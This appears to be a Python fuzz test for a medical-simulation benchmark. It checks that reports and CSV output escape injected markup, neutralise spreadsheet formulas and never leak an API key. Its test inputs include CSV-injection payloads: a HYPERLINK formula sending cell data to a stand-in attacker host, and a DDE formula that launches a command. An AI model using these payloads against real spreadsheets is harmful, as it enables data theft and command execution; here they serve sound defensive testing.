"""A bounded fuzz run (hypothesis) over model replies and case fields (issue 23): whatever a
model says and a case holds, a run ends with no traceback, no markup of theirs comes out of
report.md (rendered), report.html or results.csv (no formula), and no API key (in any
letter case, or JSON-escaped in a structured reply) reaches any file the run writes."""
from __future__ import annotations

import csv
import json
import re
from pathlib import Path

from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from agents.cases.model import CaseSetError
from agents.llm.base import Output
from agents.llm.scripted import ScriptedLLM
from medsim.bench import BenchOptions, run_bench
from medsim.errors import BenchError
from medsim.spec import build_spec
from tests.medsim.test_markdown_reports import PAYLOADS, _render, _Tags

REPO = Path(__file__).resolve().parents[2]
KEY = "sk-fuzz-0123456789abcdefSECRET"
SECRETS = (KEY, KEY.upper(), json.dumps(KEY)[1:-1].replace("s", "\\u0073", 1))  # as is, upper-cased, JSON-escaped
MARKERS = ("DIAGNOSIS READY: ", "REQUEST TEST: ", "")
FORMULAS = ('=HYPERLINK("http://evil.example/?"&G2,"Pneumonia")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3",
            "\t=1", " =cmd")
TEXT = st.one_of(st.text(max_size=60), st.sampled_from(PAYLOADS), st.sampled_from(SECRETS), st.sampled_from(FORMULAS),
                 st.builds(lambda m, p, s: f"{m}{p} {s}", st.sampled_from(MARKERS), st.sampled_from([*PAYLOADS, *FORMULAS]),
                           st.sampled_from(("", *SECRETS))))


class Fuzzed:
    """Every role but the judge says what hypothesis drew, in turn."""

    name = "fuzzed"

    def __init__(self, replies: list[str]):
        self.replies, self.i = replies, 0

    def generate(self, messages, params, ctx) -> Output:
        text = self.replies[self.i % len(self.replies)]
        self.i += 1
        if params.response_schema and ctx.role == "doctor" and self.i % 3 == 0:
            text = json.dumps({"action": "diagnose", "text": text})  # a structured reply holding the drawn text
        return Output(text=text, model=self.name, prompt_tokens=1, prompt_tokens_evaluated=1, completion_tokens=1,
                      latency_s=0.0)


def _decoded(f: Path) -> str:
    """A file's text as a reader gets it: each JSON line decoded (an escaped key is the key)."""
    raw = f.read_bytes().decode("utf-8", "replace")
    if f.suffix not in (".jsonl", ".json"):
        return raw
    out = []
    for line in raw.splitlines():
        try:
            out.append(json.dumps(json.loads(line), ensure_ascii=False))
        except ValueError:
            out.append(line)
    return "\n".join(out) if f.suffix == ".jsonl" else json.dumps(json.loads(raw), ensure_ascii=False)


def _case_file(tmp: Path, fields: dict[str, str]) -> Path:
    record = json.loads((REPO / "agents" / "casesets" / "demo.jsonl").read_text(encoding="utf-8").splitlines()[0])
    osce = record["OSCE_Examination"]
    osce["Objective_for_Doctor"] = fields["objective"]
    osce["Correct_Diagnosis"] = fields["diagnosis"]
    osce["Patient_Actor"]["History"] = fields["history"]
    path = tmp / "case.jsonl"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8", errors="surrogatepass")
    return path


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(replies=st.lists(TEXT, min_size=1, max_size=8), objective=TEXT, diagnosis=TEXT, history=TEXT,
       mode=st.sampled_from(("markers", "structured")))
def test_no_traceback_no_markup_no_secret(tmp_path_factory, monkeypatch, replies, objective, diagnosis, history, mode):
    monkeypatch.setenv("MEDSIM_API_KEY", KEY)
    tmp = tmp_path_factory.mktemp("fuzz")
    cases = _case_file(tmp, {"objective": objective, "diagnosis": diagnosis, "history": history})
    spec = build_spec(None, {"cases": str(cases), "protocol.doctor_mode": mode, "protocol.max_turns": 6,
                             "preflight": False})
    out = tmp / "run"
    fake = Fuzzed(replies)
    try:
        by_id = {}
        from agents.cases.registry import load_cases

        by_id = {c.id: c for c in load_cases(str(cases))[0]}
    except CaseSetError:
        event("case refused by the loader")
        return  # a case a loader refuses, with a message naming file, line and field: not a traceback
    judge = ScriptedLLM(by_id)
    try:
        o = run_bench(spec, BenchOptions(out=out, progress=False),
                      backends={"doctor": fake, "patient": fake, "measurement": fake, "judge": judge})
    except (BenchError, CaseSetError):
        event("run refused")
        return
    event("run finished")
    rows = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
    assert rows and not any("internal error" in (r.get("error") or "") for r in rows), rows
    assert o.summary["cases"] == 1
    # no secret, in any case or JSON-escaped, in any file the run wrote
    for f in out.rglob("*"):
        if f.is_file():
            assert KEY.lower() not in _decoded(f).lower(), f
    # report.md: no tag, link or image of theirs, raw or rendered
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md and "](javascript" not in md
    html = _render(md)
    if html is not None:
        tags = _Tags()
        tags.feed(html)
        assert not tags.bad and not tags.comments, (tags.bad, tags.comments)
    # report.html and the transcript pages: their markup only escaped
    for page in [out / "report.html", *(out / "transcripts").glob("*.html")]:
        body = page.read_text(encoding="utf-8")
        drawn = " ".join((*replies, objective, diagnosis, history))
        for p in PAYLOADS:  # a payload's markup, wherever it was drawn, is only ever escaped
            if "<" in p and p in drawn:
                assert p not in body, (page, p)
        assert "<script" not in body.lower(), page
    # results.csv: no cell a spreadsheet takes for a formula
    with (out / "results.csv").open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                stripped = cell.lstrip(" ")
                if stripped[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", stripped.strip()), cell
